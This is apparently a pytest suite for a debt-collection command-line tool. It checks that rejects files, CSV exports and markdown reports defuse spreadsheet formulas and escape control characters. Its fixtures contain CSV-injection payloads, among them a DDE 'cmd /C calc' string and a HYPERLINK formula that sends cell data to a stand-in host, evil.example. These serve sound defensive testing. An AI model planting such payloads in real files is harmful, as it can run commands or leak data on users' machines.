"""Files a spreadsheet may open are formula-safe (issue 19, item 8): the ``--rejects``
file, every CSV output and the markdown report; ``--rejects-raw`` keeps the refused rows
byte for byte instead."""

from __future__ import annotations

import csv
import io

import pytest

#: Cells Excel or LibreOffice would run, each the name of a row refused for its amount.
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "＝1+1", "  =1", "@SUM(A1:A9)", "+1+1", "-1+1", "\t=1", "＠SUM(A1)", "　=1"]
HEADER = "account_id,name,amount_due,mobile,assigned_to\n"


def csv_line(*cells: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


def read_csv(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_the_rejects_file_neutralises_formulas(cli, make_csv, tmp_path):
    rows = "".join(csv_line(f"R-{n}", name, "-12.50", "0912345678", "alice")
                   for n, name in enumerate(FORMULAS))
    rejects = tmp_path / "rejects.csv"
    result = cli("import", "accounts", make_csv("in.csv", HEADER + rows), "--rejects", rejects)
    assert result.exit_code == 1, result.output
    written = read_csv(rejects)
    assert written[0] == ["account_id", "name", "amount_due", "mobile", "assigned_to",
                          "reason"]
    names = [row[1] for row in written[1:]]
    assert names == ["'" + name for name in FORMULAS]
    # A plain number stays a number (the clerk fixes it and imports the file again).
    assert {row[2] for row in written[1:]} == {"-12.50"}
    assert {row[3] for row in written[1:]} == {"0912345678"}


def test_the_rejects_file_shows_control_characters_as_escapes(cli, make_csv, tmp_path):
    rows = csv_line("R-1", "\x1b[2J\u202e", "-1", "0912345678", "alice")
    rejects = tmp_path / "rejects.csv"
    assert cli("import", "accounts", make_csv("in.csv", HEADER + rows),
               "--rejects", rejects).exit_code == 1
    assert read_csv(rejects)[1][1] == "\\x1b[2J\\u202e"


#: A file with what an export holds: a BOM, CRLF and a lone CR, quoted cells with line
#: breaks and quotes, a formula, blank lines, a cell its encoding cannot decode.
RAW_ROWS = [
    b"account_id,name,amount_due,mobile,assigned_to\r\n",
    b"\r\n",
    b"G-1,Good,100,0912345678,alice\r\n",
    b'B-1,"=HYPERLINK(""http://x"",""y"")",-5,0912345678,alice\r\n',
    b'B-2,"two\r\nlines ""quoted""",  ,0912345678,alice\r\n',
    b"G-2,Good,100,0912345678,alice\r",
    b"B-3,\xff\xfe bytes,100,0912345678,alice\n",
    b"\n",
    b"B-4,  =1+1,-0.5,0912345678,alice",
]
REFUSED = [0, 3, 4, 6, 8]


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"], ids=["utf-8", "utf-8-bom"])
def test_rejects_raw_keeps_the_refused_rows_byte_for_byte(cli, tmp_path, bom):
    source = tmp_path / "in.csv"
    source.write_bytes(bom + b"".join(RAW_ROWS))
    rejects = tmp_path / "rejects.csv"
    result, summary = cli.json("import", "accounts", source, "--rejects", rejects,
                               "--rejects-raw")
    assert result.exit_code == 1, result.output
    assert rejects.read_bytes() == bom + b"".join(RAW_ROWS[i] for i in REFUSED)
    # Imported again, the file refuses the same rows for the same reasons.
    _again, again = cli.json("import", "accounts", rejects)
    assert [(r["account_id"], r["reason"]) for r in again["rejected"]] == \
        [(r["account_id"], r["reason"]) for r in summary["rejected"]]
    assert len(again["rejected"]) == 4 and again["inserted"] == again["updated"] == 0


def test_rejects_raw_takes_a_run_on_quote_as_the_import_does(cli, tmp_path):
    """A quote never closed refuses only the line it opened on, and the lines after it are
    rows of their own: the raw file holds that one line, not the imported rows after it."""
    rows = [b"account_id,name,amount_due,mobile\n", b"A1,Ann,100,0912000001\n",
            b'A2,"Bob,200,0912000002\n', b"A3,Cy,300,0912000003\n",
            b"A4,Di,xx,0912000004\n"]
    source = tmp_path / "quote.csv"
    source.write_bytes(b"".join(rows))
    rejects = tmp_path / "rejects.csv"
    result, summary = cli.json("import", "accounts", source, "--rejects", rejects,
                               "--rejects-raw")
    assert result.exit_code == 1, result.output
    assert [r["reason"] for r in summary["rejected"]] == ["unclosed_quote", "not_a_number"]
    assert rejects.read_bytes() == rows[0] + rows[2] + rows[4]


@pytest.mark.parametrize("encoding", ["cp950", "utf-16"])
def test_rejects_raw_in_the_files_own_encoding(cli, tmp_path, encoding):
    text = ("帳號,客戶姓名,逾期金額,手機\r\n"
            "A-1,王小明,100,0912345678\r\n"
            "A-2,＝李小華,-100,0912345678\r\n"
            "A-3,陳大文,100,0912345678\r\n"
            "A-4,\"林\r\n美玲\",-5,0912345678\r\n")
    source = tmp_path / "big5.csv"
    source.write_bytes(text.encode(encoding))
    rejects = tmp_path / "rejects.csv"
    result = cli("import", "accounts", source, "--rejects", rejects, "--rejects-raw")
    assert result.exit_code == 1, result.output
    lines = text.split("\r\n")
    expected = "\r\n".join([lines[0], lines[2], lines[4] + "\r\n" + lines[5]]) + "\r\n"
    assert rejects.read_bytes() == expected.encode(encoding)


def test_rejects_raw_needs_a_rejects_file(cli, make_csv):
    result = cli("import", "accounts", make_csv("in.csv", HEADER), "--rejects-raw")
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.count("\n") == 1 and "--rejects FILE" in result.stderr


#: Collector names a spreadsheet would run (names are stored NFKC-normalised and trimmed,
#: so full-width and space-led forms reach the files through the notes).
COLLECTORS = ["=1+1", "@SUM(A1)", "-1+1", "+1", "ok|<b>&"]
NOTES = ["＝1+1", "＠SUM(A1)", "－1+1", "＋1", "=HYPERLINK(1)"]
TEAM_HEADER = "account_id,name,amount_due,mobile,assigned_to,notes\n"


def neutralised(values):
    return sorted(v if v[:1] == "o" else "'" + v for v in values)


@pytest.fixture
def team(cli, make_csv):
    rows = "".join(csv_line(f"T-{n}", "=HYPERLINK(1)", "1000", f"091234567{n}", who, note)
                   for n, (who, note) in enumerate(zip(COLLECTORS, NOTES, strict=True)))
    assert cli("import", "accounts", make_csv("t.csv", TEAM_HEADER + rows)).exit_code == 0
    for n, who in enumerate(COLLECTORS):
        result = cli("log", f"T-{n}", "paid", "-a", "12.5", "-c", who, "-n", "=2+2")
        assert result.exit_code == 0, result.output
    return cli


def test_the_csv_report_neutralises_names_and_keeps_numbers(team):
    result = team("report", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(r["collector"] for r in rows) == neutralised(COLLECTORS)
    assert {r["collected_TWD"] for r in rows} == {"12.50"}
    # No promise fell due: the kept rate has no denominator (an empty cell, not 0).
    assert {r["calls"] for r in rows} == {"1"} and {r["kept_rate"] for r in rows} == {""}


def test_every_csv_output_neutralises_debtor_text(team):
    accounts = list(csv.DictReader(io.StringIO(team("accounts", "--format", "csv").stdout)))
    assert {a["name"] for a in accounts} == {"'=HYPERLINK(1)"}
    assert sorted(a["assigned_to"] for a in accounts) == neutralised(COLLECTORS)
    assert sorted(a["notes"] for a in accounts) == sorted("'" + n for n in NOTES)
    assert {a["balance"] for a in accounts} == {"987.50"}  # 1,000 less the 12.50 paid


def test_the_plan_csv_neutralises_debtor_text_and_keeps_numbers(cli, make_csv):
    rows = csv_line("=P-1", "@cmd", "1000", "0912345678", "=1+1", "")
    assert cli("import", "accounts", make_csv("p.csv", HEADER + rows)).exit_code == 0
    result = cli("plan", "--collector", "=1+1", "--format", "csv")
    assert result.exit_code == 0, result.output
    (call,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert (call["account_id"], call["name"], call["phone"]) == ("'=P-1", "'@cmd",
                                                                 "'+886912345678")
    assert call["balance"] == "1000.00" and float(call["score"]) > 0
    explained = cli("plan", "--explain", "=P-1", "--collector", "=1+1", "--format", "csv")
    factors = list(csv.DictReader(io.StringIO(explained.stdout)))
    assert {f["account_id"] for f in factors} == {"'=P-1"}
    # Our own numbers, negative ones included (attempts weigh -0.5), stay numbers.
    numbers = [f[key] for f in factors for key in ("measure", "coefficient", "contribution")]
    assert "-0.5" in numbers and all(float(n) is not None for n in numbers)


def test_the_markdown_report_escapes_names(team):
    result = team("report", "--format", "markdown")
    assert result.exit_code == 0, result.output
    kpis = result.stdout.split("\n\n### ")[0].splitlines()  # the KPIs; the portfolio after
    rows = kpis[4:]
    names = sorted(row.split(" | ")[0][2:] for row in rows)
    assert names == sorted(["'=1+1", "'@SUM(A1)", "'-1+1", "'+1", "ok\\|&lt;b&gt;&amp;",
                            "team"])
    assert all(" | 12.50 TWD | " in row for row in rows[:-1])
    # The table keeps its columns: no name adds a cell.
    assert len({row.replace("\\|", "").count("|") for row in kpis[2:]}) == 1
    # The portfolio by collector escapes them the same way.
    table = result.stdout.split("### By collector\n\n")[1].split("\n\n")[0].splitlines()
    assert sorted(row.split(" | ")[0][2:] for row in table[2:]) == names[:-1]
    assert len({row.replace("\\|", "").count("|") for row in table}) == 1
